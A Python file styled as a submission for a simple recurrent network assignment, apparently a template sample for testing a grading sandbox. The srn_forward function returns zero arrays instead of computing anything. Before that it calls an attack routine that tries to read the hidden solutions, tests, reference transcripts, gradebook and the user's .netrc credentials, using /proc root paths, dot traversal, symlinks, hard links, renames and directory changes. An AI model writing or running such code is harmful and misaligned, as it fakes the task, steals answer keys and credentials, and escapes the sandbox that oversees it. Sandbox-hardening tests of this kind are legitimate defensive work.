# Reaches the same files by other names: /proc/self/root, links of its own, a folder it changes into, dots.
import os

import numpy as np

PATHS = [
    "@COURSE@/solutions/rnn/srn.py",
    "@COURSE@/solutions/rnn/hidden.toml",
    "@COURSE@/solutions/rnn/checks/test_srn.py",
    "@COURSE@/solutions/rnn/checks/transcripts/srn.json",
    "@COURSE@/assignments/rnn/checks/transcripts/srn.json",
    "@GRADEBOOK@",
    "@HOME@/.netrc",
]


def attack():
    for number, path in enumerate(PATHS):
        ways = [f"/proc/self/root{path}", f"/proc/{os.getppid()}/root{path}", f"/proc/@PID@/cwd/../../{path}", f"/dev/fd/..{path}"]
        for make in (os.symlink, os.link, os.rename):
            try:
                make(path, f"/tmp/way{number}")
                ways.append(f"/tmp/way{number}")
            except OSError as error:
                print(type(error).__name__, end=" ")
        try:
            os.chdir(os.path.dirname(path))
            ways += [os.path.basename(path), "./" + os.path.basename(path)]
            print(os.listdir("."))
        except OSError as error:
            print(type(error).__name__, end=" ")
        for way in ways:
            try:
                print(open(way, "rb").read())
            except OSError as error:
                print(type(error).__name__, end=" ")


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
